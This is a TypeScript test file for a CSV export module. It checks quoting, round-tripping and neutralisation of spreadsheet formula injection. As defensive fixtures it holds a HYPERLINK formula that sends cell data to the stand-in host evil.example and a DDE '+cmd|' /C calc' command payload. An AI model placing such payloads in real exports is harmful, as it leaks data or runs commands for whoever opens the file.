import { parse } from "csv-parse/sync";
import { describe, expect, test } from "vitest";
import { csvLine, csvRecord, neutralised } from "@/lib/export/csv";
import { seededRandom } from "@/lib/stats";

describe("CSV rows (lib/export/csv.ts)", () => {
  test("cells quoted only when they hold a quote, comma or line break; null is empty; CRLF ends the row", () => {
    expect(csvLine(["a", "b,c", 'say "hi"', null, 1, true, "x\ny", "\r", ""], { raw: true })).toBe('a,"b,c","say ""hi""",,1,true,"x\ny","\r",\r\n');
    expect(csvLine(["only"])).toBe("only\r\n");
    expect(csvLine([])).toBe("\r\n");
  });

  test("any row reads back as written (csv-parse), raw, and neutralised cell by cell otherwise", () => {
    const random = seededRandom(4180);
    const alphabet = ["a", "Z", "1", " ", ",", '"', "\r", "\n", "é", "😀", "=", "+", "-", "@", "\t", "'"];
    const cell = () => Array.from({ length: Math.floor(random() * 6) }, () => alphabet[Math.floor(random() * alphabet.length)]).join("");
    for (let round = 0; round < 200; round++) {
      const rows = Array.from({ length: 1 + Math.floor(random() * 3) }, () => ["first", ...Array.from({ length: Math.floor(random() * 5) }, cell)]);
      const width = Math.max(...rows.map((r) => r.length));
      const even = rows.map((r) => [...r, ...Array<string>(width - r.length).fill("")]);
      expect(parse(even.map((row) => csvLine(row, { raw: true })).join(""), { relax_column_count: false })).toEqual(even);
      expect(parse(even.map((row) => csvLine(row)).join(""), { relax_column_count: false })).toEqual(even.map((row) => row.map(neutralised)));
    }
  });

  test("a record's line is the line of its columns' values, in the columns' order", () => {
    const random = seededRandom(4181);
    const alphabet = ["a", "1", ",", '"', "\n", "é"];
    const value = () => [null, 7, false, Array.from({ length: Math.floor(random() * 4) }, () => alphabet[Math.floor(random() * alphabet.length)]).join("")][Math.floor(random() * 4)];
    for (let round = 0; round < 100; round++) {
      const row = { a: value(), b: value(), c: value() };
      const columns = (["c", "a", "b"] as const).slice(0, Math.floor(random() * 4));
      expect(csvRecord(row, columns)).toBe(csvLine(columns.map((c) => row[c])));
    }
  });

  test("a cell starting with =, +, -, @, a tab or a carriage return is written as text: prefixed with ' (OWASP CSV injection)", () => {
    const note = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    expect(csvLine([note])).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\r\n`);
    expect(parse(csvLine(["id", note, "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3", "\t=1", "\r=1"]))).toEqual([["id", `'${note}`, "'+cmd|' /C calc'!A0", "'@SUM(A1:A9)", "'-2+3", "'\t=1", "'\r=1"]]);
    expect(csvLine(["=1+1", "+1 more", "-", "@", "\t", "\r"])).toBe(`'=1+1,'+1 more,'-,'@,'\t,"'\r"\r\n`);
    // Only the first character counts: a formula sign inside a text is plain text.
    expect(csvLine(["a=1", " =1", "x@y.org", "1-2"])).toBe("a=1, =1,x@y.org,1-2\r\n");
  });

  test("plain numbers are left as numbers: negative claim codes, coefficients, exponents", () => {
    for (const number of ["-1", "-2", "-0.5", "-.5", "-3.", "+4", "1e-3", "-2.5E+10", "0"]) expect(csvLine([number])).toBe(`${number}\r\n`);
    for (const notNumber of ["-1-1", "-1e", "--1", "-0x10", "-1,5", "- 1", "-Infinity", "-NaN", "+"]) expect(parse(csvLine([notNumber]))).toEqual([[`'${notNumber}`]]);
    expect(csvLine([-0.5, -3, null, true])).toBe("-0.5,-3,,true\r\n");
  });

  test("raw cells keep their first character; the header and records are neutralised alike", () => {
    expect(csvLine(["=1+1", "@a", "-x", "\tb"], { raw: true })).toBe("=1+1,@a,-x,\tb\r\n");
    const row = { value: "=cmd()", name: "@ada", code: "-1" };
    expect(csvRecord(row, ["value", "name", "code"])).toBe("'=cmd(),'@ada,-1\r\n");
    expect(csvRecord(row, ["value", "name", "code"], { raw: true })).toBe("=cmd(),@ada,-1\r\n");
  });
});
